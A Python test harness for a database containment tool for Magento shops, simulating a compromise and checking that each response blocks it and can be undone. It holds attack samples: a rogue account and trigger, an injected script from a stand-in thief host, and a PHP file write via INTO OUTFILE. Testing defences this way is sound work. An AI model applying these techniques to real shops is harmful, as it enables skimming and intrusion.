#!/usr/bin/env python3
"""Steps of containment at the shop's database, by hand: the attack fails after each, the shop goes on selling, the undo gives all back.

usage: contain_database.py MAGEWARDEN

First the contract of actions on a real MariaDB (`cargo test -p magewarden-responders`): also through a death between any two changes.
Then the stand-in shop, with the account and the grants of docs/containment.md and no others: for each action the attack is done,
contained, tried again, and taken back, with checkouts of all views beside it; what the database holds is compared before and after.
"""
import json
import os
import pathlib
import re
import subprocess
import sys
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent / "shop"))

from contain import HOSTS_OF, Checkouts, Containment
from shared import client, need, stage
from playbook_story import Connection, bought as buys, logs_in, signed, token_works
from shop import KEY, SECRET, Shop

ROOT = pathlib.Path(__file__).resolve().parents[2]
# What checkouts write themselves.
SOLD = {"mg_quote", "mg_quote_id_mask", "mg_quote_item", "mg_quote_payment", "mg_sales_order", "mg_sales_order_payment"}
ATTACK = """
use shop;
create user report@'%' identified by 'report'; grant select on shop.* to report@'%';
create table mg_cache_tag_index (what text);
create definer = report@'%' trigger order_index after insert on mg_sales_order_payment for each row insert into mg_cache_tag_index values (new.method);
grant insert on shop.mg_cache_tag_index to report@'%'; grant trigger on shop.* to report@'%';
insert into mg_admin_user (user_id, username, is_active, created, modified) values (7, 'eve', 1, '2026-01-02', '2026-02-03'), (8, 'ben', 1, '2026-01-02', '2026-02-03');
insert into mg_admin_user_session (user_id, status, updated_at) values (7, 1, '2026-02-03'), (8, 1, '2026-02-03');
insert into mg_integration (name, status, consumer_id, updated_at) values ('ERP', 1, 4, '2026-02-03');
insert into mg_oauth_token (consumer_id, admin_id, type, token, revoked) values (4, null, 'access', 'a', 0), (null, 7, 'access', 'd', 0);
insert into mg_customer_entity (website_id, email, updated_at) values (1, 'a@example.com', '2026-02-03'), (2, 'b@example.com', '2026-02-03');
update mg_core_config_data set updated_at = '2026-02-03';
insert into mg_cron_schedule (job_code, status, created_at, scheduled_at) values ('sales_export', 'pending', '2026-02-03', '2026-02-03'), ('visitor_clean', 'pending', '2026-02-03', '2026-02-03');
update mg_cms_block set content = '<script src="//thief.example/x.js"></script>', update_time = '2026-02-03';
"""

# Whoever holds more than they need; and what the shop's own account never needed.
TOO_MUCH = """
create user erp@'%' identified by 'erp' require none with max_updates_per_hour 100;
grant select on shop.* to erp@'%';
grant insert, update (title, content), update on shop.mg_cms_block to erp@'%' with grant option;
grant file on *.* to erp@'%';
grant file on *.* to shop@localhost;
"""
# Where the manual begins with what our account needs for this alone.
FOR_NARROWING = "### Rights that are taken away"


def contract(folder):
    """The contract of actions, at the shop's own server; the shop's schema is made anew by it, so this comes first."""
    env = {**os.environ, "MAGEWARDEN_TEST_MARIADB": f"{folder}/sock"}
    tested = subprocess.run(["cargo", "test", "--locked", "-p", "magewarden-responders", "--test", "it", "database", "--", "--nocapture"], env=env, cwd=ROOT, capture_output=True, text=True)
    need(tested.returncode == 0 and "1 passed" in tested.stdout and "skipped" not in tested.stderr, "the contract of actions at a real MariaDB", tested.stdout + tested.stderr)


class AtDatabase(Containment):
    """The command, at a shop's database, by an account with the grants that are written down."""

    def __init__(self, magewarden, shop):
        super().__init__(magewarden, shop)
        manual, self.narrowing = (ROOT / "docs/containment.md").read_text().split(FOR_NARROWING)
        self.granted(manual)
        self.word, self.good = shop.folder / "word", shop.folder / "good"
        self.word.write_text("word\n")
        self.word.chmod(0o600)
        self.good.mkdir(mode=0o700)
        with open(shop.folder / "host.toml", "a") as settings:
            settings.write(f'[database]\nsocket = "{shop.folder}/sock"\nuser = "containment"\npassword_file = "{self.word}"\nschema = "shop"\nprefix = "mg_"\n'
                           f'good_rows = "{self.good}"\n')

    def granted(self, manual):
        """Gives the account what a part of the manual says."""
        for line in re.findall(r"^(?:CREATE USER|GRANT) .*;$", manual, re.M):
            self.shop.sql(line.replace("`shop`.`", "`shop`.`mg_").replace("PASSWORD", "word"))

    def seen(self):
        """All rows but those that checkouts write, accounts with their grants, triggers."""
        sql, out = self.shop.sql, {}
        for table in sql("select table_name from information_schema.tables where table_schema = 'shop'").split():
            if table not in SOLD and table != "mg_cache_tag_index":
                out[table] = sql(f"select * from shop.{table}")
        for account in sql("select concat(quote(user), '@', quote(host)) from mysql.user where user in ('report', 'erp', 'shop')").split():
            # The server names columns in the order in which they were granted since it began.
            in_order = lambda found: "(" + ", ".join(sorted(found[1].split(", "))) + ")"
            out[f"account {account}"] = re.sub(r"\((`[^)]*)\)", in_order, sql(f"show create user {account}; show grants for {account}"))
        out["grants on tables"] = sorted(sql("select host, db, user, table_name, table_priv, column_priv from mysql.tables_priv; select * from mysql.columns_priv").split("\n"))
        for trigger in sql("select trigger_name from information_schema.triggers where trigger_schema = 'shop'").split():
            out[f"trigger {trigger}"] = sql(f"show create trigger shop.{trigger}")
        return out

    def contained(self, words, attack, stays=(), views=tuple(HOSTS_OF)):
        """Does it, with the attack before, after, and after the undo; `attack` says whether it still works."""
        words = [words[0], *(part for word in words[1:] for part in ("--set", word))]
        before = self.seen()
        need(attack(), f"{words}: the attack works before")
        told = self.right(*words, "--survey")
        need(self.seen() == before and "→" in told, f"{words}: surveying changes nothing", told)
        with Checkouts(self.shop, [(HOSTS_OF[view], view) for view in views]) as others:
            need(self.right(*words, "--act") == "in effect\n", f"{words}: in effect")
            self.shop.flush()
            need(not attack(), f"{words}: the attack fails after it")
            need(self.right(*words, "--check") == "in effect\n", f"{words}: it holds")
            self.right(*words, "--act")
            time.sleep(0.5)
            self.right(*words, "--undo")
        need(others.bought and not others.lost, f"{words}: checkouts pass ({others.bought} did)", others.lost[:5])
        self.shop.flush()
        now = self.seen()
        wrong = [(name, before.get(name), now.get(name)) for name in sorted(before.keys() | now.keys()) if before.get(name) != now.get(name) and name not in stays]
        need(not wrong, f"{words} undone: all is as before", "\n".join(map(str, wrong)))
        return others.bought

    def refused(self, words, said):
        before = self.seen()
        done = self.run(words[0], *(part for word in words[1:] for part in ("--set", word)), "--act")
        need(done.returncode == 1 and said in " ".join(done.stderr.replace("│", " ").split()), f"{words} is refused: {said}", done.stdout + done.stderr)
        need(self.seen() == before, f"{words}: nothing changed")


def thief(shop):
    """Somebody who logs in with the stolen account's password."""
    return subprocess.run(["mariadb", "--no-defaults", f"--socket={shop.folder}/sock", "-ureport", "-preport", "-e", "select 1"], capture_output=True).returncode == 0


def narrowed(at, shop, started):
    """Limits and rights of accounts that something needs: what they stop, what they don't, and that no more is lost by them."""
    shop.sql(TOO_MUCH)
    bought, erp = 0, ["mariadb", "--no-defaults", f"--socket={shop.folder}/sock", "-uerp", "-perp", "-e"]
    statements = lambda count: subprocess.run([*erp, "select 1;" * count], capture_output=True).returncode == 0
    limit = ["limit_database_account", "account=erp@%", "queries_per_hour=20"]
    bought += at.contained(limit, lambda: statements(40))
    need(statements(40), "undone, the account asks as often as it likes")
    words = [part for word in limit[1:] for part in ("--set", word)]
    before, among = Connection(shop, started, "erp", "erp"), Connection(shop, started, "erp", "erp")
    need(before.reads() and among.reads(), "two connections are open")
    at.right(limit[0], *words, "--act")
    need(all(before.reads() and among.reads() for _ in range(30)), "connections that are open go on, as is said")
    at.right(limit[0], *words, "--undo")
    words = ["--set", "account=erp@%", "--set", "connections=1"]
    at.right(limit[0], *words, "--act")
    need(not logs_in(shop, "erp", "erp"), "they began under another limit, so they are counted")
    at.right("end_connections", "--set", "account=erp@%", "--act")
    need(not before.reads() and not among.reads(), "ended, they are gone")
    begun = Connection(shop, started, "erp", "erp")
    need(begun.reads() and not logs_in(shop, "erp", "erp"), "there is one connection at a time")
    begun.end()
    at.right(limit[0], *words, "--undo")
    need(logs_in(shop, "erp", "erp") and statements(40), "undone, all connects again")
    words = ["--set", "account=report@%", "--set", "connections=1"]
    before, among = Connection(shop, started, "report", "report"), Connection(shop, started, "report", "report")
    need(before.reads() and among.reads(), "two connections are open")
    at.right(limit[0], *words, "--act")
    begun = Connection(shop, started, "report", "report")
    need(begun.reads() and not thief(shop) and before.reads() and among.reads(), "those that began without any limit go on and aren't counted")
    at.right(limit[0], *words, "--undo")
    need(thief(shop), "undone, all connects again")
    for one in (before, among, begun):
        one.end()
    at.refused(["limit_database_account", "account=shop@localhost", "connections=50"], "every page would fail")

    # A statement that came in by the shop's own account writes a file that the web server runs.
    def writes(user, password):
        place = shop.folder / "mysql" / "shell.php"
        place.unlink(missing_ok=True)
        done = subprocess.run(["mariadb", "--no-defaults", f"--socket={shop.folder}/sock", f"-u{user}", f"-p{password}", "-e",
                               f"select '<?php 1;' into outfile '{place}'"], capture_output=True)
        return done.returncode == 0 and place.exists()

    right = lambda account, name, on: ["narrow_grants", f"account={account}", f"privilege={name}", f"on={on}"]
    at.refused(right("shop@localhost", "FILE", "*.*"), "GRANT FILE ON *.* TO `containment`@`localhost` WITH GRANT OPTION")
    at.granted(at.narrowing)
    bought += at.contained(right("shop@localhost", "FILE", "*.*"), lambda: writes("shop", SECRET))
    need(writes("shop", SECRET), "undone, it writes again")
    bought += at.contained(right("erp@%", "SELECT", "shop.*"), lambda: logs_in(shop, "erp", "erp"))
    defaces = lambda: subprocess.run([*erp, "update shop.mg_cms_block set title = title where block_id = 1"], capture_output=True).returncode == 0
    bought += at.contained(right("erp@%", "UPDATE", "shop.mg_cms_block"), defaces)

    asked = [part for word in right("erp@%", "FILE", "*.*")[1:] for part in ("--set", word)]
    opened = subprocess.Popen(["mariadb", "--no-defaults", f"--socket={shop.folder}/sock", "-uerp", "-perp", "-NB", "--unbuffered"], stdin=subprocess.PIPE,
                              stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
    started.append(opened)

    plain = shop.folder / "plain"
    plain.write_text("secret\n")
    plain.chmod(0o644)

    def loads():
        opened.stdin.write(f"select load_file('{plain}') is not null;\n")
        opened.stdin.flush()
        return opened.stdout.readline().strip() == "1"

    need(loads(), "a file is read")
    at.right("narrow_grants", *asked, "--act")
    need(loads(), "a connection that is open keeps the right, as is said")
    need(not writes("erp", "erp"), "a new one hasn't it")
    at.right("narrow_grants", *asked, "--undo")
    opened.kill()
    opened.wait()

    # Orders copy themselves by the rights of whoever made the trigger: taken away, nobody buys.
    at.refused(right("report@%", "TRIGGER", "shop.*"), "drop_trigger first, or see to order_index")
    at.refused(right("report@%", "INSERT", "shop.mg_cache_tag_index"), "drop_trigger first, or see to order_index")
    at.refused(right("shop@localhost", "TRIGGER", "shop.*"), "it may sell nothing")
    at.refused(right("shop@localhost", "SELECT", "shop.*"), "it may sell nothing")
    shop.sql("revoke trigger on shop.* from report@'%'")
    need(not buys(shop, "de", None), "without the right that a trigger runs by nobody buys")
    shop.sql("grant trigger on shop.* to report@'%'")
    need(copies(shop), "with it they do")
    return bought


def copies(shop):
    """Whether an order is copied to where the trigger writes."""
    before = shop.sql("select count(*) from shop.mg_cache_tag_index")
    int(shop.buy("de.shop.test", "de"))
    return shop.sql("select count(*) from shop.mg_cache_tag_index") != before


def begins(shop, job):
    """Whether cron begins a run that is due, by the rule of Magento's `trySetJobUniqueStatusAtomic`; the run is over at once."""
    begun = shop.sql(f"""use shop; update mg_cron_schedule due left join mg_cron_schedule runs on runs.job_code = due.job_code and runs.status = 'running'
        and (runs.executed_at is null or runs.executed_at > utc_timestamp() - interval 1 day)
        set due.status = 'running' where due.job_code = '{job}' and due.status = 'pending' and runs.schedule_id is null; select row_count();""").strip()
    shop.sql(f"update shop.mg_cron_schedule set status = 'pending', created_at = '2026-02-03' where job_code = '{job}' and status = 'running' and executed_at is null")
    return begun == "1"


def started_by_cron(env, consumers):
    """The consumers that cron starts, by the rule of Magento's `ConsumersRunner`: read by PHP, as Magento does."""
    asked = "$env = include $argv[1]; echo json_encode($env['cron_consumers_runner']['consumers'] ?? []);"
    allowed = json.loads(subprocess.run(["php", "-r", asked, str(env)], capture_output=True, text=True, check=True).stdout)
    return [consumer for consumer in consumers if not allowed or consumer in allowed]


def main():
    magewarden = pathlib.Path(sys.argv[1]).resolve()
    with stage("contract") as (started, folder):
        from shared import database, free_port
        server, _ = database(folder, free_port(), audit=False, options=["--innodb-flush-log-at-trx-commit=0"])
        started.append(server)
        contract(folder)
    with stage("contain-database") as (started, folder):
        shop = Shop(folder, started)
        shop.sql(ATTACK)
        at = AtDatabase(magewarden, shop)
        one = lambda asked: lambda: shop.sql(asked).strip() == "1"
        bought = at.contained(["lock_database_account", "account=report@%"], lambda: thief(shop))

        held = subprocess.Popen(["mariadb", "--no-defaults", f"--socket={shop.folder}/sock", "-ureport", "-preport", "-e", "select sleep(600)"],
                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        started.append(held)
        time.sleep(1)
        open_now = lambda: shop.sql("select count(*) from information_schema.processlist where user = 'report'").strip() != "0"
        bought += at.contained(["end_connections", "account=report@%"], open_now)
        need(held.wait(10) != 0, "the thief's connection is gone")

        bought += at.contained(["drop_trigger", "trigger=order_index"], lambda: copies(shop))
        need(copies(shop), "the trigger runs again after the undo")
        bought += at.contained(["deactivate_administrator", "administrator=eve"], one(
            "select count(*) from shop.mg_admin_user u left join shop.mg_admin_user_session s using (user_id) where user_id = 7 and u.is_active = 1"),
            stays={"mg_admin_user_session", "mg_oauth_token", "mg_jwt_auth_revoked"})
        ended = shop.sql("select (select concat(status, date(updated_at)) from shop.mg_admin_user_session where user_id = 7), (select revoked from shop.mg_oauth_token where admin_id = 7), "
                         "(select count(*) from shop.mg_jwt_auth_revoked where user_type_id = 2 and user_id = 7 and revoke_before > unix_timestamp() - 600)")
        need(ended.split() == ["32026-02-03", "1", "1"], "sessions and tokens stay ended, and when a session was last used", ended)
        bought += at.contained(["revoke_integration", "integration=ERP"], one("select count(*) from shop.mg_oauth_token where consumer_id = 4 and revoked = 0"))
        offers = lambda: '"checkmo"' in shop.ask("us.shop.test", "/rest/us/V1/guest-carts/x/payment-methods")[2]
        bought += at.contained(["disable_payment_method", "website=second", "method=checkmo"], offers, views=("de", "fr"))
        bought += at.contained(["switch_payment_method", "website=second", "method=checkmo", "instead=hosted"], offers, views=("de", "fr"))
        at.right("switch_payment_method", "--set", "website=second", "--set", "method=checkmo", "--set", "instead=hosted", "--act")
        shop.flush()
        need('"hosted"' in shop.ask("us.shop.test", "/rest/us/V1/guest-carts/x/payment-methods")[2] and not offers(), "the other method is offered instead")
        at.right("switch_payment_method", "--set", "website=second", "--set", "method=checkmo", "--set", "instead=hosted", "--undo")
        shop.flush()
        at.refused(["switch_payment_method", "website=second", "method=checkmo", "instead=nothing"], "no row of core_config_data is of payment/nothing")
        (at.good / "cms_block:1.json").write_text('{"content": "<p>We ship within a day.</p>"}')
        poisoned = lambda: "thief.example" in shop.ask("de.shop.test", "/checkout/")[2]
        bought += at.contained(["revert_row", "row=cms_block:1"], poisoned)

        bought += at.contained(["pause_job", "job=sales_export"], lambda: begins(shop, "sales_export"))
        at.right("pause_job", "--set", "job=sales_export", "--act")
        need(begins(shop, "visitor_clean") and not begins(shop, "sales_export"), "other jobs go on")
        at.right("pause_job", "--set", "job=sales_export", "--undo")
        at.refused(["pause_job", "job=exportProcessor"], "no run of exportProcessor")

        env = shop.root / "app/etc/env.php"
        text, about = env.read_text(), env.stat()
        (shop.folder / "host.toml").write_text((shop.folder / "host.toml").read_text().replace("[magento]\n", '[magento]\nconsumers = ["exportProcessor", "codegeneratorProcessor"]\n', 1))
        shop.sql("insert into shop.mg_queue_poison_pill values ('version-5f0e6d2c1b3a4')")
        as_before = lambda: (env.read_text(), env.stat().st_mode, env.stat().st_uid, env.stat().st_mtime_ns) == (text, about.st_mode, about.st_uid, about.st_mtime_ns)
        bought += at.contained(["pause_consumer", "consumer=exportProcessor"], lambda: "exportProcessor" in started_by_cron(env, ["exportProcessor", "codegeneratorProcessor"]))
        need(as_before(), "env.php is as it was, to the time of its change")
        at.right("pause_consumer", "--set", "consumer=exportProcessor", "--act")
        need(started_by_cron(env, ["exportProcessor", "codegeneratorProcessor"]) == ["codegeneratorProcessor"], "other consumers go on")
        need(shop.sql("select version from shop.mg_queue_poison_pill").strip() != "version-5f0e6d2c1b3a4", "one that runs ends at its next message")
        at.right("pause_consumer", "--set", "consumer=exportProcessor", "--undo")
        at.refused(["pause_consumer", "consumer=exportprocessor"], "no consumer that cron starts")

        forges = lambda: token_works(shop, signed(KEY, 8))
        shop.sql("insert into shop.mg_oauth_consumer (name, secret) values ('ERP', '0:3:c2VjcmV0LW9mLUVSUA==')")
        bought += at.contained(["rotate_crypt_key"], forges)
        need(as_before() and forges(), "the old key alone is there again")
        at.right("rotate_crypt_key", "--act")
        shop.sql("insert into shop.mg_oauth_consumer (name, secret) values ('feeds', '1:3:c2VjcmV0LW9mLWZlZWRz')")
        done = at.run("rotate_crypt_key", "--undo")
        need(done.returncode == 1 and "1 values of oauth_consumer.secret" in " ".join(done.stderr.replace("│", " ").split()), "a new key that was used stays", done.stdout + done.stderr)
        need(KEY in env.read_text() and not as_before(), "the old key stays beside it")
        shop.sql("delete from shop.mg_oauth_consumer where name = 'feeds'")
        at.right("rotate_crypt_key", "--undo")
        need(as_before(), "env.php is as it was")

        # The stand-in logs no customers in: looked at is what Magento goes by.
        runs = one("select count(*) from shop.mg_customer_entity where website_id = 2 and session_cutoff is null")
        bought += at.contained(["end_customer_sessions", "website=second"], runs, stays={"mg_customer_entity"})
        kept = shop.sql("select website_id, session_cutoff is null, updated_at from shop.mg_customer_entity order by 1").split("\n")[:2]
        need(kept == ["1\t1\t2026-02-03 00:00:00", "2\t0\t2026-02-03 00:00:00"], "another website's customers and the times of change are as before", kept)
        runs = one("select count(*) from shop.mg_customer_entity where website_id = 1 and session_cutoff is null")
        bought += at.contained(["end_all_customer_sessions"], runs, stays={"mg_customer_entity"})
        kept = shop.sql("select count(*), sum(session_cutoff is null), count(distinct updated_at) from shop.mg_customer_entity").strip()
        need(kept.endswith("\t0\t1"), "every customer's, and the times of change are as before", kept)

        at.refused(["lock_database_account", "account=shop@localhost"], "the shop itself logs in")
        at.refused(["lock_database_account", "account=containment@localhost"], "magewarden itself")
        at.refused(["end_connections", "account=containment@localhost"], "magewarden itself")
        shop.sql("update shop.mg_admin_user set is_active = 0 where user_id = 8")
        at.refused(["deactivate_administrator", "administrator=eve"], "no other administrator is active")
        config = shop.root / "app/etc/config.php"
        config.write_text("<?php return ['system' => ['websites' => ['second' => ['payment' => ['checkmo' => ['active' => '1']]]]]];\n")
        at.refused(["disable_payment_method", "website=second", "method=checkmo"], "app/etc/config.php under system/websites/second/payment/checkmo/active")
        config.write_text("<?php return [];\n")
        # PHP-FPM's pool hands a variable to the shop that wins over rows and files.
        pool = shop.folder / "fpm.conf"
        before = pool.read_text()
        pool.write_text(before + "env[CONFIG__WEBSITES__SECOND__PAYMENT__CHECKMO__ACTIVE] = 1\n")
        at.refused(["disable_payment_method", "website=second", "method=checkmo"], "as CONFIG__WEBSITES__SECOND__PAYMENT__CHECKMO__ACTIVE, which wins over the database")
        pool.write_text(before)
        bought += narrowed(at, shop, started)
        # Somebody holds what a step needs: it gives up by itself, and says so.
        holder = subprocess.Popen(client(shop.folder), stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, text=True)
        started.append(holder)
        holder.stdin.write("begin; update shop.mg_integration set email = 'x';\n")
        holder.stdin.flush()
        time.sleep(1)
        begun = time.monotonic()
        done = at.run("revoke_integration", "--set", "integration=ERP", "--act")
        need(done.returncode == 1 and time.monotonic() - begun < 14, "a lock is waited for a few seconds", done.stdout + done.stderr)
        holder.stdin.close()
        holder.wait(10)
        print(f"38 passed, 0 failed (the contract of actions, 17 attacks contained and taken back, 16 refusals, 3 looks at what stays open, a lock that isn't given; {bought} checkouts meanwhile)")


if __name__ == "__main__":
    main()
